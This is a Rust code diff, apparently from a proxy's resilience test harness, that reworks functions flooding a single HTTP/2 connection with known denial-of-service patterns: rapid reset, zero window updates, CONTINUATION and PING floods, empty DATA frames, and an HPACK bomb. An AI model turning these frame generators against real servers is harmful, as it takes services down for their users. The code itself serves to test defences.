@@ -4,8 +4,8 @@
 use std::future::Future;
 use std::net::{Ipv4Addr, SocketAddr};
 use std::pin::Pin;
-use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Arc, OnceLock};
 use std::thread::{self, JoinHandle};
 use std::time::Duration;
 
@@ -277,17 +277,26 @@ async fn mint(field: Arc<Field>) -> Option<()> {
     timeout(PATIENCE, tls.try_over(wire)).await.ok()?.ok().map(drop)
 }
 
-/// `octets` over and over on one HTTP/2 connection, whose answers are read and thrown away.
-async fn flood(field: &Field, settings: &[u8], mut octets: impl FnMut(u32) -> Vec<u8>) -> Option<()> {
+/// Made once: what an attacker computes is no part of what the proxy meets.
+type Turns = OnceLock<Vec<Vec<u8>>>;
+
+/// Far more than any connection lives to see.
+const TURNS: u32 = 200;
+
+/// Turn by turn on one HTTP/2 connection, whose answers are read and thrown away, until it is ended.
+async fn flood(field: &Field, settings: &[u8], turns: &Turns, octets: impl FnMut(u32) -> Vec<u8>) -> Option<()> {
+    let turns = turns.get_or_init(|| (0..TURNS).map(octets).collect());
     let stream = field.inspected(&["h2"]).await?;
     let (mut from, mut to) = tokio::io::split(stream);
     let sending = async {
         to.write_all(&preface()).await.ok()?;
         to.write_all(settings).await.ok()?;
-        for turn in 0.. {
+        for turn in turns.iter().cycle() {
             field.tries();
-            to.write_all(&octets(turn)).await.ok()?;
+            to.write_all(turn).await.ok()?;
             to.flush().await.ok()?;
+            // The end is noticed at once: what is written behind it would burden this machine and nobody else.
+            tokio::task::yield_now().await;
         }
         Some(())
     };
@@ -310,7 +319,8 @@ const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 
 async fn rapid_reset(field: Arc<Field>) -> Option<()> {
-    flood(&field, &[], |turn| {
+    static TURNS: Turns = Turns::new();
+    flood(&field, &[], &TURNS, |turn| {
         let streams = (0..50).map(|n| (turn * 50 + n) * 2 + 1);
         let pair =
             |stream| [get(&field, stream, "/", true), frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat();
@@ -321,7 +331,8 @@ async fn rapid_reset(field: Arc<Field>) -> Option<()> {
 
 /// A window update of nothing makes the other side reset the stream.
 async fn made_you_reset(field: Arc<Field>) -> Option<()> {
-    flood(&field, &[], |turn| {
+    static TURNS: Turns = Turns::new();
+    flood(&field, &[], &TURNS, |turn| {
         let streams = (0..50).map(|n| (turn * 50 + n) * 2 + 1);
         let pair = |stream| [get(&field, stream, "/", false), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat();
         streams.flat_map(pair).collect()
@@ -330,7 +341,8 @@ async fn made_you_reset(field: Arc<Field>) -> Option<()> {
 }
 
 async fn continuations(field: Arc<Field>) -> Option<()> {
-    flood(&field, &[], |turn| match turn {
+    static TURNS: Turns = Turns::new();
+    flood(&field, &[], &TURNS, |turn| match turn {
         0 => frame(1, 0, 1, &[0x82]),
         _ => (0..100).flat_map(|_| frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b'])).collect(),
     })
@@ -339,11 +351,13 @@ async fn continuations(field: Arc<Field>) -> Option<()> {
 
 async fn pings(field: Arc<Field>) -> Option<()> {
     let both = [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])].concat();
-    flood(&field, &[], |_| both.repeat(100)).await
+    static TURNS: Turns = Turns::new();
+    flood(&field, &[], &TURNS, |_| both.repeat(100)).await
 }
 
 async fn empty_data(field: Arc<Field>) -> Option<()> {
-    flood(&field, &[], |turn| match turn {
+    static TURNS: Turns = Turns::new();
+    flood(&field, &[], &TURNS, |turn| match turn {
         0 => get(&field, 1, "/sink", false),
         _ => frame(0, 0, 1, &[]).repeat(200),
     })
@@ -352,7 +366,8 @@ async fn empty_data(field: Arc<Field>) -> Option<()> {
 
 /// One field of 4000 octets goes into the table, and is named some ten thousand times by one octet.
 async fn hpack_bomb(field: Arc<Field>) -> Option<()> {
-    flood(&field, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]), |turn| {
+    static TURNS: Turns = Turns::new();
+    flood(&field, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]), &TURNS, |turn| {
         let stream = turn * 2 + 1;
         let mut block = vec![0x40, 1, b'a', 0x7f, 0xa1, 0x1e];
         block.extend_from_slice(&[b'x'; 4000]);
